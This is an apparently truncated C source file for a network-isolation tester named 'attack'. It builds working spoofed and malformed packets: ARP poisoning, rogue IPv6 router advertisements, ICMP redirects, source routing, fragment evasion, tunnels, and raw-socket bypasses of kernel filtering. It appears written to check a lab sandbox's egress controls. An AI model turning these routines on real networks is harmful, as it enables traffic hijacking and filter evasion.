// attack is a hostile scanner of the network alone: an unprivileged user with
// CAP_NET_RAW who wants a packet where none may go. One run tries one mode three
// times and prints what the kernel said, so that what was refused when it was
// sent is told from what was sent and dropped on the way.
//
//	attack list
//	attack MODE --iface eth0 --src ADDRESS --gateway ADDRESS --host ADDRESS --allowed ADDRESS --forbidden ADDRESS
//
// The addresses of a run are of one family. gateway is the other end of the
// link; host is another address of the machine that the gateway is. It prints
// "sent N of M" and the errno of the last that was refused. The status is 0 if
// anything was sent, 3 if nothing was, 1 for a fault of its own.
//
// In nmap's place, with nmap's arguments, it tries every mode of IPv4 in turn and
// prints a line for each. It finds source and gateway by itself, the last address
// that it is given is the allowed one, and the forbidden one is that of the lab.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/if_xdp.h>
#include <linux/virtio_net.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

typedef unsigned char u8;
typedef struct { u8 b[16]; } addr;

enum { TRIES = 3 };

static int family, iface;
static const char *device = "eth0";
static addr src, gateway, host, allowed, forbidden;
static u8 mac[6], gateway_mac[6];
static const u8 broadcast[6] = {255, 255, 255, 255, 255, 255};

static int six(void) { return family == AF_INET6; }
static int kind(void) { return six() ? ETH_P_IPV6 : ETH_P_IP; }
static int width(void) { return six() ? 16 : 4; }

static void fault(const char *what) {
	fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void put16(u8 *p, unsigned v) { p[0] = v >> 8, p[1] = v; }

static unsigned sum(const u8 *p, int n, unsigned s) {
	for (int i = 0; i < n; i++)
		s += i & 1 ? p[i] : p[i] << 8;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return s;
}

// ip writes a header of the run's family before a payload, and returns the length of both.
static int ip_of(int f, u8 *b, addr from, addr to, int protocol, const u8 *payload, int n) {
	if (f == AF_INET6) {
		memset(b, 0, 40);
		b[0] = 0x60, b[6] = protocol, b[7] = 64;
		put16(b + 4, n);
		memcpy(b + 8, &from, 16), memcpy(b + 24, &to, 16);
		memmove(b + 40, payload, n);
		return 40 + n;
	}
	memset(b, 0, 20);
	b[0] = 0x45, b[8] = 64, b[9] = protocol;
	put16(b + 2, 20 + n), put16(b + 4, 0x1ab);
	memcpy(b + 12, &from, 4), memcpy(b + 16, &to, 4);
	put16(b + 10, ~sum(b, 20, 0));
	memmove(b + 20, payload, n);
	return 20 + n;
}

static int ip(u8 *b, addr from, addr to, int protocol, const u8 *payload, int n) {
	return ip_of(family, b, from, to, protocol, payload, n);
}

static void again(u8 *b) { // after a change of an IPv4 header
	int n = (b[0] & 15) * 4;
	put16(b + 10, 0), put16(b + 10, ~sum(b, n, 0));
}

static const u8 datagram[16] = {0x9c, 0x40, 0, 9, 0, 16, 0, 0, 'a', 't', 't', 'a', 'c', 'k', '!', '!'};
static const u8 syn[20] = {0x9c, 0x40, 0, 80, 0, 0, 0, 1, 0, 0, 0, 0, 0x50, 2, 4, 0};

static int plain(u8 *b, addr from, addr to) { return ip(b, from, to, IPPROTO_UDP, datagram, sizeof datagram); }

// icmp makes a message with its checksum: rest is what follows the first four bytes.
static int icmp(u8 *b, addr from, addr to, int type, int code, const u8 *rest, int n) {
	u8 m[1600] = {type, code};
	memcpy(m + 4, rest, n);
	unsigned s = 0;
	if (six()) {
		u8 pseudo[40] = {0};
		memcpy(pseudo, &from, 16), memcpy(pseudo + 16, &to, 16);
		put16(pseudo + 34, n + 4), pseudo[39] = IPPROTO_ICMPV6;
		s = sum(pseudo, 40, 0);
	}
	put16(m + 2, ~sum(m, n + 4, s));
	return ip(b, from, to, six() ? IPPROTO_ICMPV6 : IPPROTO_ICMP, m, n + 4);
}

static int echo(u8 *b, addr from, addr to) {
	return icmp(b, from, to, six() ? 128 : 8, 0, (const u8 *)"\1\2\0\1attack!!", 12);
}

static struct sockaddr_storage name(addr to, int port, socklen_t *n) {
	struct sockaddr_storage s = {.ss_family = family};
	if (six()) {
		struct sockaddr_in6 *a = (void *)&s;
		a->sin6_port = htons(port), memcpy(&a->sin6_addr, &to, 16), *n = sizeof *a;
		if (to.b[0] == 0xfe || to.b[0] == 0xff)
			a->sin6_scope_id = iface;
	} else {
		struct sockaddr_in *a = (void *)&s;
		a->sin_port = htons(port), memcpy(&a->sin_addr, &to, 4), *n = sizeof *a;
	}
	return s;
}

static long to_of(int fd, const void *b, int n, int flags, addr to, int port) {
	socklen_t size;
	struct sockaddr_storage s = name(to, port, &size);
	return fd < 0 ? -1 : sendto(fd, b, n, flags, (void *)&s, size);
}

static int dgram(void) { return socket(family, SOCK_DGRAM, 0); }

static int on(int fd, int level, int option) {
	int one = 1;
	return fd < 0 ? fd : setsockopt(fd, level, option, &one, sizeof one) < 0 ? -1 : fd;
}

// frame sends one through a packet socket. past is an option of SOL_PACKET to switch on, or 0.
static long frame_on(int index, const u8 *to, const u8 *from, int type, const u8 *payload, int n, int past) {
	static u8 f[70000];
	struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_ifindex = index, .sll_protocol = htons(type), .sll_halen = 6};
	memcpy(f, to, 6), memcpy(f + 6, from, 6), put16(f + 12, type), memcpy(f + 14, payload, n);
	int fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (past)
		fd = on(fd, SOL_PACKET, past);
	return fd < 0 ? -1 : sendto(fd, f, n + 14, 0, (void *)&ll, sizeof ll);
}

static long frame(int type, const u8 *payload, int n) { return frame_on(iface, gateway_mac, mac, type, payload, n, 0); }

// bare sends the headers and says how it is sent; most modes differ in the packet alone.
static long packet(const u8 *p, int n) { return frame(kind(), p, n); }

static u8 b[70000]; // the packet of most modes

// Sockets as any program has them.

static long tcp(void) {
	socklen_t size;
	struct sockaddr_storage s = name(forbidden, 80, &size);
	int fd = socket(family, SOCK_STREAM | SOCK_NONBLOCK, 0);
	return connect(fd, (void *)&s, size) < 0 && errno != EINPROGRESS ? -1 : 0;
}
static long fastopen(void) { return to_of(socket(family, SOCK_STREAM | SOCK_NONBLOCK, 0), "attack", 6, MSG_FASTOPEN, forbidden, 80) < 0 && errno != EINPROGRESS ? -1 : 0; }
static long udp(void) { return to_of(dgram(), "attack", 6, 0, forbidden, 9); }
static long udp_gateway(void) { return to_of(dgram(), "attack", 6, 0, gateway, 9); }
static long udp_host(void) { return to_of(dgram(), "attack", 6, 0, host, 9); }
static long ping(void) {
	u8 m[64];
	int n = echo(m, src, forbidden), h = n - 16; // the message alone
	return to_of(socket(family, SOCK_RAW, six() ? IPPROTO_ICMPV6 : IPPROTO_ICMP), m + h, 16, 0, forbidden, 0);
}
static long sctp(void) {
	static const u8 init[32] = {0x9c, 0x40, 0, 80, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 20, 0, 0, 0, 1, 0, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 1};
	return to_of(socket(family, SOCK_RAW, IPPROTO_SCTP), init, sizeof init, 0, forbidden, 0);
}
static long rawip_to(addr via) {
	int n = plain(b, src, forbidden);
	return to_of(socket(family, SOCK_RAW, IPPROTO_RAW), b, n, 0, via, 0);
}
static long rawip(void) { return rawip_to(forbidden); }
static long rawip_lie(void) { return rawip_to(allowed); }
static long cork(void) {
	int fd = dgram();
	if (to_of(fd, "att", 3, MSG_MORE, forbidden, 9) < 0)
		return -1;
	return to_of(fd, "ack", 3, 0, allowed, 9);
}
static long mark(void) {
	static int turn;
	unsigned marks[TRIES] = {1, 0x5ec, 0xffffffff};
	int fd = dgram();
	return setsockopt(fd, SOL_SOCKET, SO_MARK, &marks[turn++ % TRIES], 4) < 0 ? -1 : to_of(fd, "attack", 6, 0, forbidden, 9);
}
static long pktinfo(void) {
	u8 control[64] = {0};
	socklen_t size;
	struct sockaddr_storage s = name(forbidden, 9, &size);
	struct iovec v = {"attack", 6};
	struct msghdr m = {&s, size, &v, 1, control, sizeof control};
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	if (six()) {
		struct in6_pktinfo i = {.ipi6_ifindex = iface};
		memcpy(&i.ipi6_addr, &src, 16);
		c->cmsg_level = IPPROTO_IPV6, c->cmsg_type = IPV6_PKTINFO, c->cmsg_len = CMSG_LEN(sizeof i), memcpy(CMSG_DATA(c), &i, sizeof i);
	} else {
		struct in_pktinfo i = {.ipi_ifindex = iface};
		memcpy(&i.ipi_spec_dst, &src, 4);
		c->cmsg_level = IPPROTO_IP, c->cmsg_type = IP_PKTINFO, c->cmsg_len = CMSG_LEN(sizeof i), memcpy(CMSG_DATA(c), &i, sizeof i);
	}
	m.msg_controllen = CMSG_SPACE(six() ? sizeof(struct in6_pktinfo) : sizeof(struct in_pktinfo));
	return sendmsg(dgram(), &m, 0);
}
// The kernel itself writes a source that is not its own.
static long transparent(void) {
	socklen_t size;
	struct sockaddr_storage s = name(forbidden, 9999, &size);
	int fd = on(dgram(), six() ? IPPROTO_IPV6 : IPPROTO_IP, six() ? IPV6_TRANSPARENT : IP_TRANSPARENT);
	return fd < 0 || bind(fd, (void *)&s, size) < 0 ? -1 : to_of(fd, "attack", 6, 0, allowed, 9);
}
static long mapped(void) {
	static const u8 prefix[12] = {0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 255, 255};
	struct sockaddr_in6 s = {.sin6_family = AF_INET6, .sin6_port = htons(9)};
	memcpy(&s.sin6_addr, prefix, 12), memcpy((u8 *)&s.sin6_addr + 12, &forbidden, 4);
	return sendto(socket(AF_INET6, SOCK_DGRAM, 0), "attack", 6, 0, (void *)&s, sizeof s);
}
// Fragments that the kernel makes itself.
static long large(void) {
	static u8 much[4000];
	int fd = dgram(), never = IP_PMTUDISC_DONT;
	setsockopt(fd, six() ? IPPROTO_IPV6 : IPPROTO_IP, six() ? IPV6_MTU_DISCOVER : IP_MTU_DISCOVER, &never, sizeof never);
	return to_of(fd, much, sizeof much, 0, forbidden, 9);
}
static addr group(void) {
	addr a = {{224, 0, 0, 251}};
	if (six())
		a = (addr){{255, 2, [15] = 251}};
	return a;
}
static long mcast(void) { return to_of(on(dgram(), SOL_SOCKET, SO_BROADCAST), "attack", 6, 0, group(), 5353); }
static long bcast(void) {
	addr all = {{255, 255, 255, 255}};
	int fd = on(dgram(), SOL_SOCKET, SO_BROADCAST);
	if (setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, device, strlen(device)) < 0)
		return -1;
	return to_of(fd, "attack", 6, 0, all, 9);
}
// The kernel reports its groups by itself.
static long join(void) {
	addr g = group();
	g.b[width() - 1] = 77;
	if (six()) {
		struct ipv6_mreq m = {.ipv6mr_interface = iface};
		memcpy(&m.ipv6mr_multiaddr, &g, 16);
		return setsockopt(dgram(), IPPROTO_IPV6, IPV6_ADD_MEMBERSHIP, &m, sizeof m);
	}
	struct ip_mreqn m = {.imr_ifindex = iface};
	memcpy(&m.imr_multiaddr, &g, 4);
	return setsockopt(dgram(), IPPROTO_IP, IP_ADD_MEMBERSHIP, &m, sizeof m);
}
// The kernel asks for the hardware address of a neighbour that is none.
static long arp_kernel(void) {
	int fd = on(dgram(), SOL_SOCKET, SO_DONTROUTE);
	addr near = forbidden;
	if (six())
		near = gateway, near.b[15] ^= 0x40; // on the link's own prefix
	if (setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, device, strlen(device)) < 0)
		return -1;
	return to_of(fd, "attack", 6, 0, near, 9);
}
static long linklocal(void) {
	addr a = {{0xfe, 0x80, [15] = 0x99}};
	int n = plain(b, src, a);
	return packet(b, n);
}

// Ways around the kernel's own output.

static long packet_plain(void) { return packet(b, plain(b, src, forbidden)); }
static long packet_bypass(void) {
	int n = plain(b, src, forbidden);
	return frame_on(iface, gateway_mac, mac, kind(), b, n, PACKET_QDISC_BYPASS);
}
static long packet_dgram(void) {
	struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_ifindex = iface, .sll_protocol = htons(kind()), .sll_halen = 6};
	memcpy(ll.sll_addr, gateway_mac, 6);
	int n = plain(b, src, forbidden);
	return sendto(socket(AF_PACKET, SOCK_DGRAM, 0), b, n, 0, (void *)&ll, sizeof ll);
}
// The type of the frame is IP, that of the socket is not.
static long proto_lie(void) {
	static u8 f[200];
	struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_ifindex = iface, .sll_protocol = htons(0x88b5), .sll_halen = 6};
	memcpy(f, gateway_mac, 6), memcpy(f + 6, mac, 6), put16(f + 12, kind());
	int n = plain(f + 14, src, forbidden);
	return sendto(socket(AF_PACKET, SOCK_RAW, 0), f, n + 14, 0, (void *)&ll, sizeof ll);
}
static int ethernet(u8 *f, addr from, addr to) {
	memcpy(f, gateway_mac, 6), memcpy(f + 6, mac, 6), put16(f + 12, kind());
	return 14 + plain(f + 14, from, to);
}
static long packet_txring(void) {
	struct tpacket_req r = {.tp_block_size = 4096, .tp_block_nr = 1, .tp_frame_size = 2048, .tp_frame_nr = 2};
	struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_ifindex = iface, .sll_protocol = htons(kind()), .sll_halen = 6};
	int fd = socket(AF_PACKET, SOCK_RAW, 0), version = TPACKET_V2;
	if (setsockopt(fd, SOL_PACKET, PACKET_VERSION, &version, sizeof version) < 0 || setsockopt(fd, SOL_PACKET, PACKET_TX_RING, &r, sizeof r) < 0)
		return -1;
	u8 *ring = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (ring == MAP_FAILED)
		return -1;
	struct tpacket2_hdr *h = (void *)ring;
	h->tp_len = ethernet(ring + TPACKET2_HDRLEN - sizeof ll, src, forbidden);
	h->tp_status = TP_STATUS_SEND_REQUEST;
	return sendto(fd, NULL, 0, 0, (void *)&ll, sizeof ll);
}
static long vnet(struct virtio_net_hdr h, const u8 *payload, int n) {
	static u8 f[70000];
	struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_ifindex = iface, .sll_protocol = htons(kind()), .sll_halen = 6};
	memcpy(f, &h, sizeof h);
	u8 *e = f + sizeof h;
	memcpy(e, gateway_mac, 6), memcpy(e + 6, mac, 6), put16(e + 12, kind()), memcpy(e + 14, payload, n);
	return sendto(on(socket(AF_PACKET, SOCK_RAW, 0), SOL_PACKET, PACKET_VNET_HDR), f, sizeof h + 14 + n, 0, (void *)&ll, sizeof ll);
}
static long packet_vnet(void) {
	int n = plain(b, src, forbidden);
	return vnet((struct virtio_net_hdr){0}, b, n);
}
// One frame of 3000 bytes that the kernel cuts into segments.
static long gso(void) {
	static u8 segment[3020];
	memcpy(segment, syn, 20), segment[13] = 0x10;
	int n = ip(b, src, forbidden, IPPROTO_TCP, segment, sizeof segment), h = n - sizeof segment;
	struct virtio_net_hdr v = {VIRTIO_NET_HDR_F_NEEDS_CSUM, six() ? VIRTIO_NET_HDR_GSO_TCPV6 : VIRTIO_NET_HDR_GSO_TCPV4, 14 + h + 20, 1000, 14 + h, 16};
	return vnet(v, b, n);
}
static long xdp(void) {
	enum { SIZE = 2048, ROOM = 16 };
	int fd = socket(AF_XDP, SOCK_RAW, 0), size = ROOM;
	u8 *area = mmap(NULL, SIZE * ROOM, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	struct xdp_umem_reg r = {.addr = (uintptr_t)area, .len = SIZE * ROOM, .chunk_size = SIZE};
	if (fd < 0 || setsockopt(fd, SOL_XDP, XDP_UMEM_REG, &r, sizeof r) < 0 || setsockopt(fd, SOL_XDP, XDP_UMEM_FILL_RING, &size, sizeof size) < 0 ||
		setsockopt(fd, SOL_XDP, XDP_UMEM_COMPLETION_RING, &size, sizeof size) < 0 || setsockopt(fd, SOL_XDP, XDP_TX_RING, &size, sizeof size) < 0)
		return -1;
	struct xdp_mmap_offsets o;
	socklen_t n = sizeof o;
	if (getsockopt(fd, SOL_XDP, XDP_MMAP_OFFSETS, &o, &n) < 0)
		return -1;
	size_t length = o.tx.desc + ROOM * sizeof(struct xdp_desc);
	u8 *ring = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, XDP_PGOFF_TX_RING);
	struct sockaddr_xdp s = {.sxdp_family = AF_XDP, .sxdp_flags = XDP_COPY, .sxdp_ifindex = iface};
	if (ring == MAP_FAILED)
		return -1;
	// A queue has one such socket at a time, and the one before is not gone at once.
	for (int i = 0; bind(fd, (void *)&s, sizeof s) < 0; i++)
		if (errno != EBUSY || i == 50)
			return -1;
		else
			usleep(10000);
	struct xdp_desc *d = (void *)(ring + o.tx.desc);
	d[0] = (struct xdp_desc){0, ethernet(area, src, forbidden), 0};
	__atomic_store_n((uint32_t *)(ring + o.tx.producer), 1, __ATOMIC_RELEASE);
	long sent = sendto(fd, NULL, 0, MSG_DONTWAIT, NULL, 0);
	munmap(ring, length); // it would keep the socket
	return sent;
}

// Packets that say one thing and mean another.

static long spoof(void) { return packet(b, plain(b, forbidden, allowed)); }
static const u8 stranger[6] = {2, 0, 0, 0xba, 0xdb, 0xad};
static long spoof_machine(void) { return packet(b, plain(b, host, allowed)); }
static long land(void) { return packet(b, plain(b, allowed, allowed)); }
static long macspoof(void) {
	int n = plain(b, src, forbidden);
	return frame_on(iface, gateway_mac, stranger, kind(), b, n, 0);
}
static long mac_other(void) {
	int n = plain(b, src, forbidden);
	return frame_on(iface, stranger, mac, kind(), b, n, 0);
}
static long mac_broadcast(void) {
	int n = plain(b, src, allowed);
	return frame_on(iface, broadcast, mac, kind(), b, n, 0);
}
static long ttl1(void) {
	int n = plain(b, forbidden, allowed);
	if (six())
		b[7] = 1;
	else
		b[8] = 1, again(b);
	return packet(b, n);
}
static long gw_reflect(void) { return packet(b, echo(b, forbidden, gateway)); }
static long host_reflect(void) { return packet(b, echo(b, forbidden, host)); }
static long on_lo(int n) {
	static const u8 none[6];
	return frame_on(1, none, none, kind(), b, n, 0);
}
static long lo_reflect(void) { return on_lo(echo(b, forbidden, src)); }
static long lo_forward(void) { return on_lo(plain(b, allowed, forbidden)); }

static long source_route(addr first) {
	u8 p[64] = {0x47};
	plain(b, src, first);
	memcpy(p, b, 20);
	p[0] = 0x47, put16(p + 2, 28 + sizeof datagram);
	p[20] = 131, p[21] = 7, p[22] = 4, memcpy(p + 23, &forbidden, 4), p[27] = 0;
	memcpy(p + 28, datagram, sizeof datagram);
	again(p);
	return packet(p, 28 + sizeof datagram);
}
static long lsrr(void) { return source_route(allowed); }
static long lsrr_host(void) { return source_route(gateway); }

// extended puts an IPv6 extension header before the datagram.
static long extended(addr to, int type, const u8 *header, int n) {
	u8 p[128];
	memcpy(p, header, n), memcpy(p + n, datagram, sizeof datagram);
	p[0] = IPPROTO_UDP;
	return packet(b, ip(b, src, to, type, p, n + sizeof datagram));
}
static long routing(int type) {
	u8 h[24] = {0, 2, type, 1};
	memcpy(h + 8, &forbidden, 16);
	return extended(allowed, 43, h, sizeof h);
}
static long rh0(void) { return routing(0); }
static long srh(void) { return routing(4); }
static long destopt(void) { return extended(allowed, 60, (const u8[8]){0, 0, 1, 4}, 8); }
static long hbh_jumbo(void) {
	u8 h[8] = {IPPROTO_UDP, 0, 0xc2, 4, 0, 1, 0, 0}, p[64];
	memcpy(p, h, 8), memcpy(p + 8, datagram, sizeof datagram);
	int n = ip(b, src, forbidden, 0, p, 8 + sizeof datagram);
	put16(b + 4, 0);
	return packet(b, n);
}

// fragment sends a part of a datagram; at is in bytes.
static long fragment(addr to, int at, int more, const u8 *part, int size) {
	if (!six()) {
		int n = ip(b, src, to, IPPROTO_UDP, part, size);
		put16(b + 6, at / 8 | (more ? 0x2000 : 0));
		again(b);
		return packet(b, n);
	}
	u8 p[256] = {IPPROTO_UDP, 0, 0, 0, 0, 0, 1, 0xab};
	put16(p + 2, at | (more ? 1 : 0));
	memcpy(p + 8, part, size);
	return packet(b, ip(b, src, to, 44, p, 8 + size));
}
static long frag(void) { return fragment(forbidden, 0, 1, datagram, 8) < 0 ? -1 : fragment(forbidden, 8, 0, datagram + 8, 8); }
static long frag_overlap(void) { return fragment(allowed, 0, 1, datagram, 16) < 0 ? -1 : fragment(allowed, 8, 0, datagram, 16); }
static long frag_tiny(void) { return fragment(allowed, 8, 0, datagram, 8); }

// tunnel wraps a packet to the forbidden address in one to the allowed. In the other family it
// is the lab's, which a run is not told.
static long tunnel(int inner, int protocol, const u8 *before, int n) {
	u8 p[256];
	addr from = {{10, 1, 1, 1}}, to = {{10, 99, 0, 5}};
	if (inner == AF_INET6)
		from = (addr){{0xfd, 1, [15] = 1}}, to = (addr){{0xfd, 0x99, [15] = 5}};
	if (inner == family)
		from = src, to = forbidden;
	memcpy(p, before, n);
	n += ip_of(inner, p + n, from, to, IPPROTO_UDP, datagram, sizeof datagram);
	return packet(b, ip(b, src, allowed, protocol, p, n));
}
static long ipip(void) { return tunnel(family, six() ? 41 : 4, NULL, 0); }
static long four_in_six(void) { return tunnel(AF_INET, 4, NULL, 0); }
static long six_in_four(void) { return tunnel(AF_INET6, 41, NULL, 0); }
static long gre(void) {
	u8 h[4] = {0, 0};
	put16(h + 2, kind());
	return tunnel(family, 47, h, 4);
}
static long esp(void) { return packet(b, ip(b, src, allowed, 50, datagram, sizeof datagram)); }
static long mapped_frame(void) {
	addr a = {{[10] = 255, 255, 10, 99, 0, 5}};
	return packet(b, plain(b, src, a));
}
static long icmp_error(void) {
	u8 rest[100] = {0};
	int n = 4 + plain(rest + 4, forbidden, src);
	return packet(b, icmp(b, src, forbidden, six() ? 1 : 3, six() ? 4 : 3, rest, n));
}
static long redirect(void) {
	u8 rest[200] = {0};
	int n;
	if (six())
		memcpy(rest + 4, &forbidden, 16), memcpy(rest + 20, &allowed, 16), n = 36;
	else
		memcpy(rest, &forbidden, 4), n = 4 + plain(rest + 4, allowed, src);
	if (packet(b, icmp(b, src, gateway, six() ? 137 : 5, 1, rest, n)) < 0)
		return -1;
	return packet(b, icmp(b, src, allowed, six() ? 137 : 5, 1, rest, n));
}

// Headers that are not what they should be.

static long badihl(void) {
	int n = plain(b, src, forbidden);
	b[0] = 0x4f, put16(b + 10, 0); // longer than the packet
	put16(b + 10, ~sum(b, n, 0));
	return packet(b, n);
}
static long badlen(void) {
	int n = plain(b, src, forbidden);
	if (six())
		put16(b + 4, 4000);
	else
		put16(b + 2, 4000), again(b);
	return packet(b, n);
}
static long zerolen(void) {
	int n = plain(b, src, forbidden);
	if (six())
		put16(b + 4, 0);
	else
		put16(b + 2, 0), again(b);
	return packet(b, n);
}
static long tcp_badlen(void) {
	u8 t[20];
	memcpy(t, syn, 20), t[12] = 0xf0;
	return packet(b, ip(b, src, forbidden, IPPROTO_TCP, t, sizeof t));
}
static long runt(void) { return packet(b, 0); }
static long jumbo(void) {
	static u8 much[9000];
	return packet(b, ip(b, src, forbidden, IPPROTO_UDP, much, sizeof much));
}

// Frames that are not IP, or say so.

static long ethertype(void) { return frame(0x88b5, b, plain(b, src, forbidden)); }
static long tagged(const u8 *tags, int n, int type) {
	memcpy(b, tags, n), put16(b + n, kind());
	return frame(type, b, n + 2 + plain(b + n + 2, src, forbidden));
}
static long vlan(void) { return tagged((const u8[]){0, 5}, 2, 0x8100); }
static long qinq(void) { return tagged((const u8[]){0, 5, 0x81, 0, 0, 6}, 6, 0x88a8); }
static long mpls(void) {
	memcpy(b, (const u8[]){0, 1, 1, 64}, 4);
	return frame(0x8847, b, 4 + plain(b + 4, src, forbidden));
}
static long pppoe(void) {
	memcpy(b, (const u8[]){0x11, 0, 0, 1, 0, 0, 0, 0x21}, 8);
	int n = plain(b + 8, src, forbidden);
	put16(b + 4, n + 2), put16(b + 6, six() ? 0x57 : 0x21);
	return frame(0x8864, b, 8 + n);
}
static long doubled(void) { return frame(0x6558, b, ethernet(b, src, forbidden)); }
static long lldp(void) {
	static const u8 all[6] = {1, 0x80, 0xc2, 0, 0, 0x0e};
	return frame_on(iface, all, mac, 0x88cc, (const u8 *)"\2\7\4\2\0\0\0\0\1\4\2\5" "1\6\2\0\x78\0\0", 19, 0);
}
static long llc(void) { // a bridge that says it is the root
	static const u8 all[6] = {1, 0x80, 0xc2, 0, 0, 0};
	u8 p[46] = {0x42, 0x42, 3};
	return frame_on(iface, all, mac, 38, p, 38, 0);
}
static long arp(int op, addr asker, const u8 *asker_mac, addr asked) {
	u8 p[46] = {0, 1, 8, 0, 6, 4, 0, op};
	memcpy(p + 8, asker_mac, 6), memcpy(p + 14, &asker, 4), memcpy(p + 24, &asked, 4);
	return frame_on(iface, broadcast, mac, ETH_P_ARP, p, sizeof p, 0);
}
static long arp_off(void) {
	if (!six())
		return arp(1, src, mac, forbidden);
	u8 rest[28] = {0};
	memcpy(rest + 4, &forbidden, 16), rest[20] = 1, rest[21] = 1, memcpy(rest + 22, mac, 6);
	addr all = {{255, 2, [11] = 1, 255, forbidden.b[13], forbidden.b[14], forbidden.b[15]}};
	int n = icmp(b, src, all, 135, 0, rest, sizeof rest);
	b[7] = 255;
	return packet(b, n);
}
static long garp(void) { return arp(2, gateway, mac, gateway); }
// arp_poison says to the machine that the forbidden address is here.
static long arp_poison(void) { return arp(2, forbidden, mac, gateway); }
static long advertised(int type, const u8 *rest, int n, addr from) {
	addr all = {{255, 2, [15] = 1}};
	n = icmp(b, from, all, type, 0, rest, n);
	b[7] = 255;
	return packet(b, n);
}
static long na_host(void) {
	u8 rest[28] = {0x20};
	memcpy(rest + 4, &forbidden, 16), rest[20] = 2, rest[21] = 1, memcpy(rest + 22, mac, 6);
	return advertised(136, rest, sizeof rest, src);
}
static long ra_host(void) {
	addr local = {{0xfe, 0x80, [15] = 0x66}};
	u8 rest[44] = {64, 0, 7, 8};
	rest[12] = 3, rest[13] = 4, rest[14] = 64, rest[15] = 0xc0, rest[17] = 1, rest[21] = 1, memcpy(rest + 28, &forbidden, 8);
	return advertised(134, rest, sizeof rest, local);
}
static long dhcp(void) {
	addr none = {{0}}, all = {{255, 255, 255, 255}};
	static u8 m[248] = {0, 68, 0, 67, 0, 248, 0, 0, 1, 1, 6};
	static const u8 discover[8] = {0x63, 0x82, 0x53, 0x63, 53, 1, 1, 255};
	memcpy(m + 36, mac, 6), memcpy(m + 240, discover, 8);
	int n = ip(b, none, all, IPPROTO_UDP, m, sizeof m);
	return frame_on(iface, broadcast, mac, ETH_P_IP, b, n, 0);
}
static long dhcp6(void) {
	addr local = {{0xfe, 0x80, [15] = 0x66}}, servers = {{255, 2, [13] = 1, 0, 2}};
	return packet(b, ip(b, local, servers, IPPROTO_UDP, (const u8[12]){2, 34, 2, 35, 0, 12, 0, 0, 1, 0, 0, 1}, 12));
}

enum { FOUR = 1, SIX = 2, BOTH = 3 };

static const struct mode {
	const char *name;
	int families;
	long (*send)(void);
} modes[] = {
	{"tcp", FOUR, tcp}, {"tcp6", SIX, tcp}, {"fastopen", BOTH, fastopen}, {"udp", BOTH, udp}, {"udp-gateway", BOTH, udp_gateway},
	{"udp-host", BOTH, udp_host}, {"ping", BOTH, ping}, {"sctp", BOTH, sctp}, {"rawip", BOTH, rawip}, {"rawip-lie", BOTH, rawip_lie},
	{"cork", BOTH, cork}, {"mark", BOTH, mark}, {"pktinfo", BOTH, pktinfo}, {"transparent", BOTH, transparent},
	{"mapped", FOUR, mapped}, {"mapped-frame", SIX, mapped_frame}, {"large", BOTH, large}, {"mcast", BOTH, mcast}, {"bcast", FOUR, bcast},
	{"join", BOTH, join}, {"arp-kernel", BOTH, arp_kernel}, {"linklocal", SIX, linklocal},
	{"packet", FOUR, packet_plain}, {"packet6", SIX, packet_plain}, {"packet-bypass", BOTH, packet_bypass}, {"packet-dgram", BOTH, packet_dgram},
	{"proto-lie", BOTH, proto_lie}, {"packet-txring", BOTH, packet_txring}, {"packet-vnet", BOTH, packet_vnet}, {"gso", BOTH, gso}, {"xdp", BOTH, xdp},
	{"spoof", BOTH, spoof}, {"spoof-machine", BOTH, spoof_machine}, {"land", BOTH, land}, {"macspoof", BOTH, macspoof}, {"mac-other", BOTH, mac_other}, {"mac-broadcast", BOTH, mac_broadcast}, {"ttl1", BOTH, ttl1}, {"gw-reflect", BOTH, gw_reflect}, {"host-reflect", BOTH, host_reflect},
	{"lo-reflect", BOTH, lo_reflect}, {"lo-forward", BOTH, lo_forward}, {"lsrr", FOUR, lsrr}, {"lsrr-host", FOUR, lsrr_host},
	{"rh0", SIX, rh0}, {"srh", SIX, srh}, {"destopt", SIX, destopt}, {"hbh-jumbo", SIX, hbh_jumbo},
	{"frag", BOTH, frag}, {"frag-overlap", BOTH, frag_overlap}, {"frag-tiny", BOTH, frag_tiny},
	{"ipip", BOTH, ipip}, {"4in6", SIX, four_in_six}, {"6in4", FOUR, six_in_four}, {"gre", BOTH, gre}, {"esp", BOTH, esp},
	{"icmp-error", BOTH, icmp_error}, {"redirect", BOTH, redirect},
	{"badihl", FOUR, badihl}, {"badlen", BOTH, badlen}, {"zerolen", BOTH, zerolen}, {"tcp-badlen", BOTH, tcp_badlen}, {"runt", BOTH, runt}, {"jumbo", BOTH, jumbo},
	{"ethertype", BOTH, ethertype}, {"vlan", BOTH, vlan}, {"qinq", BOTH, qinq}, {"mpls", BOTH, mpls}, {"pppoe", BOTH, pppoe}, {"doubled", BOTH, doubled},
	{"lldp", FOUR, lldp}, {"llc", FOUR, llc}, {"arp-off", BOTH, arp_off}, {"garp", FOUR, garp}, {"arp-poison", FOUR, arp_poison},
	{"na-host", SIX, na_host}, {"ra-host", SIX, ra_host}, {"dhcp", FOUR, dhcp}, {"dhcp6", SIX, dhcp6},
};
enum { MODES = sizeof modes / sizeof *modes };

